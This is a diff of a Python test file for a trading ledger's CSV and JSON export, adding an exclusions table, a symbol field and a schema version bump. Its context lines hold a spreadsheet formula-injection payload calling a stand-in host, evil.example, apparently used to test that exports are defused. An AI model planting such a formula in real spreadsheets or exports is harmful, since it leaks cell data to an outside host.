@@ -19,6 +19,7 @@ from hydra.ops.exit_codes import ExitCode
 from hydra.store.export_writing import as_csv, as_json, write_export
 from hydra.store.exporting import Cell, Export, exported
 from hydra.store.ledger import Ledger
+from hydra.trading.differences import DifferenceKind
 from hydra.trading.orders import Side
 from hydra.trading.trading_state import Cause, CauseClass, TradingState
 from messages.orders import OrderRejected
@@ -27,8 +28,8 @@ from tests.store import records
 from tests.store.orders import AT, approved, decision, filled
 
 TABLES = [
-    "orders", "fills", "positions", "lots", "bots", "counters", "budgets", "halts", "values",
-    "facts",
+    "orders", "fills", "positions", "lots", "bots", "counters", "budgets", "halts", "exclusions",
+    "values", "facts",
 ]  # fmt: skip
 UTC = "2024-01-02T14:30:00.000000000Z"
 EVIL = '=HYPERLINK("http://evil.example/?"&A1)'
@@ -74,8 +75,17 @@ def ledger(tmp_path: Path) -> Path:
             state=TradingState.CLOSE_ONLY,
             since=AT + 1,
             detail='17 s, "more"\nthan 15 s',
+            symbol="MSFT",
         ),
         AT,
+    )
+    ledger.exclude_difference(
+        DifferenceKind.POSITION,
+        "MSFT",
+        Decimal("-2.50"),
+        reason="held by hand",
+        operator="pat",
+        at=AT,
     )
     ledger.put("watermark", "-5.25", AT)
     ledger.commit()
@@ -158,6 +168,17 @@ def test_everything_that_stands_in_the_ledger_is_in_it(ledger: Path) -> None:
             "since": "2024-01-02T14:30:00.000000001Z",
             "since_ns": AT + 1,
             "detail": '17 s, "more"\nthan 15 s',
+            "bot": None,
+            "symbol": "MSFT",
+        }
+    ]
+    assert tables["exclusions"] == [
+        {
+            "kind": "position",
+            "subject": "MSFT",
+            "quantity": Decimal("-2.50"),
+            "reason": "held by hand",
+            "operator": "pat",
         }
     ]
     assert tables["values"] == [{"key": "watermark", "value": "-5.25"}]
@@ -192,7 +213,7 @@ def test_csv_and_json_say_the_same_and_which_moment_it_is(ledger: Path, tmp_path
     about = {row["name"]: row["value"] for row in read_csv(tmp_path / "out" / "about.csv")}
     assert about == {
         "format": "1",
-        "schema_version": "1",
+        "schema_version": "2",
         "ledger_seq": str(export.mark.seq),
         "ledger_chain": export.mark.chain,
         "state_hash": export.state_hash,
